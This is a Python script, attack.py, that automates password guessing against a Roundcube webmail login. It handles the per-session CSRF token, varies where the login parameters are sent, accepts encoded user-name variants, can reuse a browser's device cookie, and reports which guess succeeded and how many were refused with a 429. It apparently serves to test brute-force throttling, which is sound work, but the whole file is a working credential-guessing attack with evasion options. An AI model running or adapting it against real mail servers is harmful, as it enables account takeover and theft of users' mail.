#!/usr/bin/python3
"""attack.py - guesses a Roundcube password, as a scripted attacker does.

hydra cannot carry Roundcube's request token (every login POST needs the
_token of the login page, tied to its session cookie), so this does what
hydra's http-post-form does, plus the token: for each guess, GET the login
page, take the session cookie and _token, POST the guess.

usage: attack.py BASE PATH PLACE USER PASSWORDS
  PATH       where the POST goes (/, /index.php)
  PLACE      where _task=login and _action=login go: body, query, cookie
  USER       the user name, already urlencoded as it is sent ("%00alice")
  PASSWORDS  a file, one guess a line
With JAR=file in the environment, the guesses are a browser's that keeps
its device cookie in file (one guess a run).
Prints "login: USER password: GUESS" for a guess that logged in, and
"denied N" for the guesses refused with a 429; exits 0.
"""
import os
import re
import sys
import urllib.error
import urllib.parse
import urllib.request

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                ".."))
from browser_jar import browser_jar  # noqa: E402


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def guess(base, path, place, user, password):
    """The status of one login attempt and its Location."""
    jar = browser_jar()
    opener = urllib.request.build_opener(
        urllib.request.HTTPCookieProcessor(jar), NoRedirect)
    page = opener.open(base + "/?_task=login", timeout=20).read().decode(
        "utf-8", "replace")
    m = re.search(r'name="_token" value="([^"]+)"', page)
    token = m.group(1) if m else ""
    body = ("_timezone=_default_&_url=&_user=" + user + "&_pass=" +
            urllib.parse.quote(password, safe="") + "&_token=" + token)
    url = base + path
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    if place == "body":
        body = "_task=login&_action=login&" + body
    elif place == "query":
        url += "?_task=login&_action=login"
    elif place == "cookie":
        cookies = "; ".join(c.name + "=" + c.value for c in jar)
        headers["Cookie"] = cookies + "; _task=login; _action=login"
    req = urllib.request.Request(url, data=body.encode("latin-1"),
                                 headers=headers, method="POST")
    try:
        resp = opener.open(req, timeout=20)
        return resp.status, resp.headers.get("Location", "")
    except urllib.error.HTTPError as e:
        return e.code, e.headers.get("Location", "")


def main():
    base, path, place, user, pwfile = sys.argv[1:6]
    denied = 0
    for password in open(pwfile, encoding="utf-8").read().split("\n"):
        if not password:
            continue
        status, location = guess(base, path, place, user, password)
        if status == 429:
            denied += 1
        elif status == 302 and "_task=mail" in location:
            print("login: %s password: %s" % (user, password))
            break
    print("denied %d" % denied)


if __name__ == "__main__":
    main()
